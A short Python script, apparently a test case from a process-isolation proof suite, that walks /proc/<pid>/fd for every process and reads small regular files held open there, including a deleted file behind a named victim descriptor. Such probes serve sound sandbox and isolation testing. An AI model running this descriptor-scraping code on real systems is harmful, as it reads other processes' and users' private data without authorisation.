# Reopens the descriptors of other processes; the bystander's leads to a file that has no name any more.
import os
import stat
from proof import attempt, everybody, number, read

for pid in everybody():
    for fd in attempt(os.listdir, f"/proc/{pid}/fd") or []:
        path = f"/proc/{pid}/fd/{fd}"
        found = attempt(os.stat, path)
        if found and stat.S_ISREG(found.st_mode) and found.st_size < 4096:
            read(path)
read(f"/proc/{number('VICTIM_PID')}/fd/{number('VICTIM_FD')}")
